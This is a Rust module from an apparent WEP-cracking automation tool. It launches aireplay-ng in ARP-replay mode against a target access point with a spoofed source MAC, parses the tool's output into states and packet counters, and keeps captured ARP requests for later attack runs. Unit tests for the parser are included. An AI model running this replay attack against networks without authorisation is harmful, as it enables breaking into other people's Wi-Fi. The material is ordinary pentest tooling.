//! ARP request replay against the target access point
//!
//! `aireplay-ng --arpreplay` listens for an ARP request and retransmits it;
//! every repetition by the AP carries a fresh initialization vector, which
//! is what the cracker needs. The process runs inside its own scratch
//! working directory so the `replay_arp*.cap` file it chooses to write can
//! be collected and persisted for later attack runs.

use std::path::PathBuf;

use once_cell::sync::Lazy;
use regex::{Captures, Regex};
use tracing::debug;

use wepraid_core::{MacAddr, Result, Timings, WirelessInterface};
use wepraid_process::{FlagSet, LineEffects, SupervisedProcess, ToolSpec, UpdateReport};

use crate::{flags, SharedAccessPoint};

/// Steady-state replay line:
/// `Read 120 packets (got 40 ARP requests and 38 ACKs), sent 4000 packets...(512 pps)`
static RE_REPLAYING: Lazy<Regex> = Lazy::new(|| {
    Regex::new(
        r"^Read (?P<read>\d+) packets \(got (?P<arps>\d*[1-9]\d*) ARP requests and (?P<acks>\d*[1-9]\d*) ACKs\), sent (?P<sent>\d*[1-9]\d*) packets\.\.\.\((?P<pps>\d+) pps\)$",
    )
    .expect("replay line pattern")
});

/// Capture filename announcement:
/// `Saving ARP requests in replay_arp-0402-145559.cap`
static RE_SAVING: Lazy<Regex> = Lazy::new(|| {
    Regex::new(r"^Saving ARP requests in (?P<file>replay_arp.+\.cap)$").expect("saving line pattern")
});

/// ARP replay lifecycle states
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ArpReplayState {
    New,
    /// 'Waiting for beacon frame'
    WaitingForBeacon,
    /// Running but no ARP request captured yet
    WaitingForArp,
    /// Got ARP requests, replaying
    Ok,
    Terminated,
}

/// Side effects requested by the ARP replay classifier
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ArpReplayEffect {
    /// The tool announced the file it is saving captured ARP requests into
    CaptureFileAnnounced(String),
    /// Replay reached steady state; the announced capture is worth keeping
    PersistArpCapture,
}

/// Pure classifier for aireplay-ng --arpreplay stdout
#[derive(Debug, Clone, Default)]
pub struct ArpReplayClassifier;

impl ToolSpec for ArpReplayClassifier {
    type State = ArpReplayState;
    type Effect = ArpReplayEffect;

    fn tool(&self) -> &'static str {
        "arpreplay"
    }

    fn initial_state(&self) -> ArpReplayState {
        ArpReplayState::New
    }

    fn terminated_state(&self) -> ArpReplayState {
        ArpReplayState::Terminated
    }

    fn flag_names(&self) -> &'static [&'static str] {
        &[flags::DEAUTHENTICATED]
    }

    fn classify(&self, line: &str) -> LineEffects<ArpReplayState, ArpReplayEffect> {
        if line.contains("Waiting for beacon frame") {
            return LineEffects::state(ArpReplayState::WaitingForBeacon);
        }
        if line.contains("got 0 ARP requests") {
            return LineEffects::state(ArpReplayState::WaitingForArp);
        }
        if line.contains("Notice: got a deauth/disassoc packet. Is the source MAC associated ?") {
            return LineEffects::flag(flags::DEAUTHENTICATED);
        }

        // a drained batch can carry both structured lines; try both
        let mut fx = LineEffects::none();
        if let Some(caps) = RE_REPLAYING.captures(line) {
            if let Some(stats) = replay_stats(&caps) {
                fx.state = Some(ArpReplayState::Ok);
                fx.stats = stats.to_vec();
                fx.effects.push(ArpReplayEffect::PersistArpCapture);
            }
        }
        if let Some(caps) = RE_SAVING.captures(line) {
            fx.effects
                .push(ArpReplayEffect::CaptureFileAnnounced(caps["file"].to_string()));
        }
        fx
    }
}

/// All five counters, or nothing: a line that does not parse completely
/// must not produce a partial stat update.
fn replay_stats(caps: &Captures<'_>) -> Option<[(&'static str, u64); 5]> {
    Some([
        ("read", caps["read"].parse().ok()?),
        ("ARPs", caps["arps"].parse().ok()?),
        ("ACKs", caps["acks"].parse().ok()?),
        ("sent", caps["sent"].parse().ok()?),
        ("pps", caps["pps"].parse().ok()?),
    ])
}

/// Latest replay counters, zero until the first steady-state line
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ReplayStats {
    pub read: u64,
    pub arps: u64,
    pub acks: u64,
    pub sent: u64,
    pub pps: u64,
}

/// Supervised aireplay-ng --arpreplay process
pub struct ArpReplay {
    process: SupervisedProcess<ArpReplayClassifier>,
    interface: WirelessInterface,
    ap: SharedAccessPoint,
    /// Capture file announced by the tool, inside its scratch directory
    pending_capture: Option<PathBuf>,
    persisted: bool,
}

impl ArpReplay {
    pub fn new(interface: WirelessInterface, ap: SharedAccessPoint, timings: &Timings) -> Self {
        Self {
            process: SupervisedProcess::new(ArpReplayClassifier, timings.termination_grace),
            interface,
            ap,
            pending_capture: None,
            persisted: false,
        }
    }

    /// Start the replay, reusing the AP's previously saved ARP capture if
    /// one is available.
    pub fn start(&mut self, source_mac: MacAddr) -> Result<()> {
        let (bssid, arp_capture): (_, Option<PathBuf>) = {
            let ap = self.ap.lock();
            (ap.bssid, ap.arp_capture_path().map(Into::into))
        };

        let mut argv = vec![
            "aireplay-ng".to_string(),
            "--arpreplay".to_string(),
            "-b".to_string(),
            bssid.to_string(),
            "-h".to_string(),
            source_mac.to_string(),
        ];
        if let Some(capture) = arp_capture {
            argv.push("-r".to_string());
            argv.push(capture.to_string_lossy().into_owned());
        }
        argv.push(self.interface.name.clone());

        self.process.start(&argv)
    }

    pub fn update(&mut self) -> Result<UpdateReport<ArpReplayState, ArpReplayEffect>> {
        let report = self.process.update()?;
        for effect in &report.effects {
            match effect {
                ArpReplayEffect::CaptureFileAnnounced(name) => {
                    if let Some(dir) = self.process.work_dir() {
                        self.pending_capture = Some(dir.join(name));
                    }
                }
                ArpReplayEffect::PersistArpCapture => self.persist_capture()?,
            }
        }
        Ok(report)
    }

    /// Save the announced ARP capture onto the AP, once, and only when no
    /// pre-existing capture was configured.
    fn persist_capture(&mut self) -> Result<()> {
        if self.persisted {
            return Ok(());
        }
        let Some(pending) = self.pending_capture.clone() else {
            return Ok(());
        };
        let mut ap = self.ap.lock();
        if ap.arp_capture_path().is_some() {
            self.persisted = true;
            return Ok(());
        }
        ap.save_arp_capture(&pending)?;
        debug!(path = %pending.display(), "ARP request capture persisted");
        self.persisted = true;
        Ok(())
    }

    pub fn stop(&mut self) -> Option<i32> {
        self.process.stop()
    }

    pub fn clean(&mut self) {
        self.process.clean();
        self.pending_capture = None;
        self.persisted = false;
    }

    pub fn state(&self) -> ArpReplayState {
        self.process.state()
    }

    pub fn flags(&self) -> &FlagSet {
        self.process.flags()
    }

    /// Typed view of the latest replay counters
    pub fn stats(&self) -> ReplayStats {
        let stats = self.process.stats();
        let get = |key: &str| stats.get(key).copied().unwrap_or(0);
        ReplayStats {
            read: get("read"),
            arps: get("ARPs"),
            acks: get("ACKs"),
            sent: get("sent"),
            pps: get("pps"),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_steady_state_line_updates_state_and_all_stats() {
        let fx = ArpReplayClassifier
            .classify("Read 120 packets (got 40 ARP requests and 38 ACKs), sent 4000 packets...(512 pps)");
        assert_eq!(fx.state, Some(ArpReplayState::Ok));
        assert_eq!(
            fx.stats,
            vec![
                ("read", 120),
                ("ARPs", 40),
                ("ACKs", 38),
                ("sent", 4000),
                ("pps", 512),
            ]
        );
        assert_eq!(fx.effects, vec![ArpReplayEffect::PersistArpCapture]);
    }

    #[test]
    fn test_zero_arp_requests_means_waiting() {
        let fx = ArpReplayClassifier
            .classify("Read 500 packets (got 0 ARP requests and 0 ACKs), sent 0 packets...(0 pps)");
        assert_eq!(fx.state, Some(ArpReplayState::WaitingForArp));
        assert!(fx.stats.is_empty());
        assert!(fx.effects.is_empty());
    }

    #[test]
    fn test_partial_match_produces_no_stats() {
        let fx = ArpReplayClassifier.classify("Read 120 packets (got 40 ARP requests");
        assert_eq!(fx, LineEffects::none());
    }

    #[test]
    fn test_waiting_for_beacon() {
        let fx = ArpReplayClassifier
            .classify("18:30:01  Waiting for beacon frame (BSSID: 00:11:22:33:44:55) on channel 6");
        assert_eq!(fx.state, Some(ArpReplayState::WaitingForBeacon));
    }

    #[test]
    fn test_deauth_notice_sets_flag() {
        let fx = ArpReplayClassifier
            .classify("Notice: got a deauth/disassoc packet. Is the source MAC associated ?");
        assert_eq!(fx.state, None);
        assert_eq!(fx.flags, vec![flags::DEAUTHENTICATED]);
    }

    #[test]
    fn test_saving_line_remembers_filename_without_state_change() {
        let fx = ArpReplayClassifier.classify("Saving ARP requests in replay_arp-0402-145559.cap");
        assert_eq!(fx.state, None);
        assert!(fx.stats.is_empty());
        assert_eq!(
            fx.effects,
            vec![ArpReplayEffect::CaptureFileAnnounced(
                "replay_arp-0402-145559.cap".to_string()
            )]
        );
    }

    #[test]
    fn test_unrecognized_line_is_ignored() {
        let fx = ArpReplayClassifier.classify("The interface MAC doesn't match the specified MAC");
        assert_eq!(fx, LineEffects::none());
    }

    #[test]
    fn test_stats_view_defaults_to_zero() {
        let timings = Timings::default();
        let iface = WirelessInterface::new(
            "wlan0mon",
            MacAddr([0x00, 0x36, 0x76, 0x54, 0xb2, 0x95]),
        );
        let ap = std::sync::Arc::new(parking_lot::Mutex::new(
            wepraid_core::WirelessAccessPoint::new(
                MacAddr([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
                "testnet",
                6,
            ),
        ));
        let replay = ArpReplay::new(iface, ap, &timings);
        assert_eq!(replay.stats(), ReplayStats::default());
        assert_eq!(replay.state(), ArpReplayState::New);
    }
}
